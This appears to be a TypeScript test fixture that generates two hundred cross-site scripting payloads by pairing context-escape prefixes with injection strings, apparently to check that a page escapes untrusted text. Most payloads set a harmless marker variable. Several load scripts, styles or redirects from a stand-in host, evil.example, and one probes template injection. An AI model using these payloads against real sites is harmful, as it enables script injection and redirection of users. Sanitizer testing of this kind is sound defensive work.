/** Ways out of where a text may stand on a page. */
const outOf = ['', '">', `'>`, '</textarea>', '</title>', '--></script>', ']]></style>', '`/>'];

/** What would run, or take the page elsewhere, if it were markup; each would leave its mark on the window. */
const inside = [
  '<script>window.ranHere=1</script>', '<ScRiPt>window.ranHere=1</sCrIpT>', '<script src=//evil.example/x.js></script>', '<img src=x onerror=window.ranHere=1>',
  '<svg onload=window.ranHere=1>', '<svg><script>window.ranHere=1</script></svg>', '<body onload=window.ranHere=1>', '<details open ontoggle=window.ranHere=1>',
  '<input autofocus onfocus=window.ranHere=1>', '<video><source onerror=window.ranHere=1></video>', '<iframe srcdoc="<script>parent.ranHere=1</script>">',
  '<iframe src=javascript:parent.ranHere=1>', '<object data=javascript:window.ranHere=1>', '<embed src=javascript:window.ranHere=1>', '<a href=javascript:window.ranHere=1 id=x>x</a>',
  '<math><mi xlink:href=javascript:window.ranHere=1>x</mi></math>', '<form action=//evil.example><button>x</button>', '<base href=//evil.example/>', '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<link rel=stylesheet href=//evil.example/x.css>', '<style>*{background:url(//evil.example)}</style>', '<p style=background:url(javascript:window.ranHere=1)>', '{{7*7}}{% raw %}${7*7}',
  '" onmouseover=window.ranHere=1 x="', '&lt;script&gt;window.ranHere=1&#60;/script&#62; &amp; &quot;',
];

/** Two hundred of them. */
export const payloads: readonly string[] = inside.flatMap((each) => outOf.map((way) => `${way}${each}`));

/** Joined to texts of at most this length. */
export function inTextsOf(length: number): string[] {
  const texts: string[] = [];
  for (const payload of payloads) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + payload.length < length) texts[texts.length - 1] = `${last} ${payload}`;
    else texts.push(payload);
  }
  return texts;
}
